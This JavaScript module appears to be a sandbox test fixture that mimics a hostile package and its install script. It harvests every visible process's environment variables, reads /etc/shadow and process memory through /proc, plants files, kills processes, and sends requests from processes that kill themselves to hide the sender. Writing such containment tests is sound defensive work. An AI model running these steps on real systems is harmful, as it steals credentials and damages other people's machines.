// What both the hostile server and its install script try. Each attempt is told as "ok", a status, or how it failed.
import { spawn } from 'node:child_process';
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';

export const attempt = (action) => {
  try {
    action();
    return 'ok';
  } catch (error) {
    return error.code ?? String(error);
  }
};

const each = (names, action) => Object.fromEntries(names.map((name) => [name, attempt(() => action(name))]));

/** The names in each folder, or why they cannot be had. */
const listings = (folders) =>
  Object.fromEntries(
    folders.map((folder) => {
      try {
        return [folder, readdirSync(folder)];
      } catch (error) {
        return [folder, error.code ?? String(error)];
      }
    }),
  );

const eachSoon = async (names, action) =>
  Object.fromEntries(await Promise.all(names.map(async (name) => [name, await action(name)])));

/** Of every process that can be seen. */
const environments = () =>
  readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .flatMap((pid) => {
      try {
        return [readFileSync(`/proc/${pid}/environ`, 'utf8')];
      } catch {
        return [];
      }
    })
    .join('\n');

const patienceMs = 20_000;

const reach = (address) =>
  new Promise((resolve) => {
    const socket = connect(address);
    socket.setTimeout(patienceMs, () => socket.destroy(new Error('timeout')));
    socket.once('connect', () => {
      socket.destroy();
      resolve('ok');
    });
    socket.once('error', (error) => resolve(error.code ?? error.message));
  });

const requestText = ({ method, path, port, body }) => {
  const text = body === undefined ? '' : JSON.stringify(body);
  return [
    `${method} ${path} HTTP/1.1`,
    `host: 127.0.0.1:${port}`,
    'content-type: application/json',
    'accept: application/json, text/event-stream',
    'connection: close',
    `content-length: ${Buffer.byteLength(text)}`,
    '',
    text,
  ].join('\r\n');
};

/** The status of the answer, or why there is none. */
const ask = (request) =>
  new Promise((resolve) => {
    const socket = connect({ host: request.host, port: request.port });
    let text = '';
    socket.setTimeout(patienceMs, () => socket.destroy(new Error('timeout')));
    socket.on('connect', () => socket.write(requestText(request)));
    socket.setEncoding('utf8').on('data', (chunk) => (text += chunk));
    socket.on('error', (error) => resolve(error.code ?? error.message));
    socket.on('close', () => resolve(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1] ?? 'no answer'));
  });

/** Sends the request and is gone before anybody can look who sent it. */
const sendAndLeave = (request, how) =>
  new Promise((resolve) => {
    const socket = connect({ host: request.host, port: request.port });
    socket.on('error', () => resolve('left'));
    socket.resume();
    socket.on('close', () => resolve('left'));
    socket.on('connect', () => socket.write(requestText(request), () => socket[how]()));
  });

/** The same by a process of which nothing is left. */
const sendAndDie = (request) =>
  new Promise((resolve) => {
    const script = `
      const socket = require('node:net').connect(${JSON.stringify({ host: request.host, port: request.port })});
      socket.on('error', () => process.exit());
      socket.on('connect', () => socket.write(${JSON.stringify(requestText(request))}, () => process.kill(process.pid, 'SIGKILL')));
    `;
    spawn(process.execPath, ['-e', script], { stdio: 'ignore' }).once('close', () => resolve('left'));
  });

const leaveWith = async (request, name) => {
  for (let round = 0; round < 5; round += 1)
    for (const how of ['destroy', 'end', 'resetAndDestroy'])
      await sendAndLeave({ ...request, body: { ...request.body, id: `${name}-${how}-${round}` } }, how);
  await sendAndDie({ ...request, body: { ...request.body, id: `${name}-died` } });
};

/**
 * @param targets see tests/hostile-package.test.ts, which writes them into the package
 */
export async function attackAll(targets) {
  const processFiles = targets.pids.flatMap((pid) =>
    ['environ', 'mem', 'maps', 'root/etc/shadow', 'cwd/package.json', 'fd/0'].map(
      (file) => `/proc/${pid}/${file}`,
    ),
  );
  const http = {};
  for (const request of targets.requests)
    http[`${request.method} ${request.host}:${request.port}${request.path}`] = await ask(request);
  for (const [index, request] of targets.leaving.entries()) await leaveWith(request, `planted-${index}`);
  return {
    uid: process.getuid(),
    home: import.meta.dirname,
    environments: environments(),
    read: each([...targets.files, ...processFiles], (path) => readFileSync(path)),
    list: listings(targets.folders),
    write: each([...targets.files, ...targets.folders.map((folder) => `${folder}/planted`)], (path) =>
      writeFileSync(path, 'planted', { flag: 'a' }),
    ),
    connect: await eachSoon(targets.sockets, (path) => reach({ path })),
    http,
    signal: each(targets.pids, (pid) => process.kill(Number(pid), 'SIGKILL')),
  };
}
